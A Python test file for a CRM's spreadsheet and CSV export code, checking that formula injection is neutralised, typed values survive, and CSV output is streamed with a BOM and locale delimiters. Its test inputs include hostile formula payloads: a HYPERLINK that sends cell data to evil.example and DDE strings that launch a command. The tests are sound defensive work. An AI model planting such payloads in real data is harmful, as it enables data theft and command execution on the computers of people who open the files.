"""Exports: formula injection neutralised in XLSX and CSV while the values people read stay
intact, streamed output, and Excel-friendly CSV (BOM, the locale's delimiter)."""

from __future__ import annotations

import csv
import datetime
import io
import zipfile
from collections.abc import Iterator
from decimal import Decimal
from pathlib import Path

import pytest
from openpyxl import load_workbook

from crm_core.transfer.reading import detect_layout, read_rows
from crm_core.transfer.writing import (
    csv_chunks,
    delimiter_for,
    neutralise,
    restore_neutralised,
    write_csv,
    write_xlsx,
)

# What visitors can type into a form, meant to run when an admin opens the export.
ATTACKS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "=1+2",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\uff1d1+1",  # full-width equals sign
    "+40 722 123 456",  # a phone: harmless, but starts like a formula
]
HARMLESS = ["Ștefan Țăranu", "Ąžuolų ūkis", "Cœur & Fils", "a=b", "e-mail@x.ro", "#N/A", "'quoted", ""]


def test_xlsx_has_no_formula_and_every_value_reads_back_exactly(tmp_path: Path) -> None:
    path = tmp_path / "export.xlsx"
    rows = [[value, "after"] for value in ATTACKS + HARMLESS]
    write_xlsx(path, iter(rows), header=["Name", "Other"], title="Prospects")

    workbook = load_workbook(path)  # not read-only: data_type tells formulas apart
    sheet = workbook["Prospects"]
    cells = [cell for row in sheet.iter_rows(min_row=2) for cell in row]
    assert all(cell.data_type != "f" for cell in cells)
    # openpyxl reads an empty string cell as None; XML reads a CR as a line feed.
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2)] == [
        [value.replace("\r", "\n") or None, "after"] for value in ATTACKS + HARMLESS
    ]
    with zipfile.ZipFile(path) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def test_xlsx_keeps_types_and_drops_what_xml_cannot_carry(tmp_path: Path) -> None:
    path = tmp_path / "typed.xlsx"
    aware = datetime.datetime(2024, 5, 1, 12, 0, tzinfo=datetime.timezone(datetime.timedelta(hours=3)))
    write_xlsx(
        path, [[5, -3.5, Decimal("1.25"), True, datetime.date(2024, 5, 1), aware, None, "bell\x07here"]]
    )
    values = [cell.value for cell in next(load_workbook(path).active.iter_rows())]
    assert values == [
        5,
        -3.5,
        1.25,
        True,
        datetime.datetime(2024, 5, 1),
        datetime.datetime(2024, 5, 1, 9),
        None,
        "bellhere",
    ]


def test_xlsx_header_is_bold_and_frozen(tmp_path: Path) -> None:
    path = tmp_path / "h.xlsx"
    write_xlsx(path, [["Jane"]], header=["=Name"])
    sheet = load_workbook(path).active
    assert sheet["A1"].value == "=Name" and sheet["A1"].data_type == "s" and sheet["A1"].font.b
    assert sheet.freeze_panes == "A2"


def _csv_back(data: bytes, delimiter: str) -> list[list[str]]:
    assert data.startswith(b"\xef\xbb\xbf")  # so Excel reads UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=delimiter))


@pytest.mark.parametrize("delimiter", [";", ","])
def test_csv_neutralises_formulas_with_an_apostrophe_and_leaves_the_rest(delimiter: str) -> None:
    rows = [[value, "after"] for value in ATTACKS + HARMLESS]
    back = _csv_back(b"".join(csv_chunks(rows, delimiter=delimiter)), delimiter)
    assert back == [["'" + value, "after"] for value in ATTACKS] + [[value, "after"] for value in HARMLESS]
    assert all(
        not cell.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"))
        for row in back
        for cell in row
    )
    assert [[restore_neutralised(cell) for cell in row] for row in back] == rows


def test_restore_only_undoes_our_own_apostrophe() -> None:
    assert restore_neutralised("'quoted") == "'quoted"
    assert restore_neutralised("'=1+2") == "=1+2"
    for value in ("'=x", "''=x", "' =x", "'", "=", "'+"):
        assert restore_neutralised(neutralise(value)) == value


def test_csv_writes_typed_values_as_values() -> None:
    aware = datetime.datetime(2024, 5, 1, 12, 0, tzinfo=datetime.UTC)
    rows = [[-5, 2.5, Decimal("-1.10"), False, datetime.date(2024, 5, 1), aware, None]]
    assert _csv_back(b"".join(csv_chunks(rows, delimiter=";")), ";") == [
        ["-5", "2.5", "-1.10", "FALSE", "2024-05-01", "2024-05-01 12:00:00", ""]
    ]


def test_csv_is_streamed_in_chunks_from_a_generator() -> None:
    def rows() -> Iterator[list[str]]:
        for n in range(20_000):
            yield [f"Lead {n}", "Ștefan", "line\nbreak"]

    chunks = csv_chunks(rows())
    first = next(chunks)
    assert first.startswith(b"\xef\xbb\xbfLead 0;")
    rest = list(chunks)
    assert len(rest) > 5
    assert max(len(chunk) for chunk in [first, *rest]) < 128 * 1024


def test_our_csv_reads_back_through_the_importer(tmp_path: Path) -> None:
    path = tmp_path / "export.csv"
    rows = [["Nume", "Notă"], ["Ștefan Ţăranu", "Str. X; ap. 2\netaj 3"], ["=1+2", "@x"]]
    with path.open("wb") as file:
        write_csv(file, rows, delimiter=";")
    layout = detect_layout(path)
    assert (layout.encoding, layout.delimiter) == ("utf-8-sig", ";")
    back = [[restore_neutralised(value) for value in row.values] for row in read_rows(path, layout)]
    assert back == rows


@pytest.mark.parametrize(
    ("language", "delimiter"), [("en", ","), ("ro", ";"), ("lt", ";"), ("fr", ";"), ("de", ",")]
)
def test_the_delimiter_follows_the_language(language: str, delimiter: str) -> None:
    assert delimiter_for(language) == delimiter
